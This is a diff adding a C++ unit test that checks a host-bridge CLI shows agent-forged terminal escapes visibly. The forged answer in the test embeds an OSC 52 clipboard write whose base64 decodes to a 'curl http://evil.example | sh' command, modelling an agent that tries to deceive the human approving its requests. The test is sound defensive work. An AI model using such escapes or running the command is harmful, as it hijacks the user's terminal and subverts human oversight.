@@ -5,7 +5,11 @@
 // audit, list and the error messages. Each must show visible escapes
 // (`\x1b`, `\u202e`) and never the raw bytes; approve shows a file that is
 // not plain text as a hex dump with its size and SHA-256.
+#include <pty.h>
+#include <sys/wait.h>
+#include <filesystem>
 #include <sstream>
+#include <thread>
 
 #include <gtest/gtest.h>
 
@@ -220,6 +224,53 @@ TEST_F(NoRaw, ListShowsTheLastEventVisibly) {
     expect_no_raw(run.out, "list");
     EXPECT_TRUE(contains(run.out, "\\x1b[K+echo")) << run.out;
     EXPECT_TRUE(contains(run.out, "\\u202ex")) << run.out;
+}
+
+// The agent forges the answer a person's `hostbridge request` reads on the
+// host: an OSC 52 clipboard write of a command, an erase-line and a lone CR
+// in the output and the reason. On a terminal none of it arrives raw.
+TEST_F(NoRaw, TheRequestClientOnATerminalShowsAForgedAnswerVisibly) {
+    const std::string requests = project.spool() + "/requests";
+    const std::string osc52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07";
+    int master = -1;
+    const pid_t pid = ::forkpty(&master, nullptr, nullptr, nullptr);
+    ASSERT_GE(pid, 0);
+    if (pid == 0) {
+        for (const auto& e : home.env()) ::putenv(::strdup(e.c_str()));
+        const std::string bin = std::string(HB_BIN_DIR) + "/hostbridge";
+        ::execl(bin.c_str(), bin.c_str(), "request", "--project-dir", project.dir.c_str(),
+                "--timeout", "30", "status", static_cast<char*>(nullptr));
+        ::_exit(127);
+    }
+    std::string name;
+    for (int i = 0; i < 3000 && name.empty(); ++i) {
+        for (const auto& entry : std::filesystem::directory_iterator(requests))
+            name = entry.path().filename().string();
+        if (name.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(10));
+    }
+    ASSERT_FALSE(name.empty());
+    const nlohmann::json forged = {{"request", name},
+                                   {"state", "failed"},
+                                   {"verb", "status"},
+                                   {"arg", nullptr},
+                                   {"requested_at", "2026-12-02T00:00:00Z"},
+                                   {"updated_at", "2026-12-02T00:00:01Z"},
+                                   {"expires_at", nullptr},
+                                   {"exit_code", 1},
+                                   {"reason", "ok\r\x1b[2K" + osc52},
+                                   {"output", "all good\n" + osc52 + "\x1b[2K\rhidden\n"},
+                                   {"log", nullptr}};
+    write_file(project.spool() + "/responses/" + name + ".response.json", forged.dump());
+    std::string shown;
+    char buf[4096];
+    for (ssize_t n; (n = ::read(master, buf, sizeof buf)) > 0;) shown.append(buf, n);
+    int status = 0;
+    ::waitpid(pid, &status, 0);
+    ::close(master);
+    // The terminal's own line ends (CR LF) are not the agent's.
+    for (std::size_t at; (at = shown.find("\r\n")) != std::string::npos;) shown.erase(at, 1);
+    EXPECT_NE(shown.find("\\x1b]52"), std::string::npos) << cli::visible_text(shown);
+    expect_no_raw(shown, "hostbridge request on a terminal");
 }
 
 TEST_F(NoRaw, ErrorMessagesQuoteVisibly) {
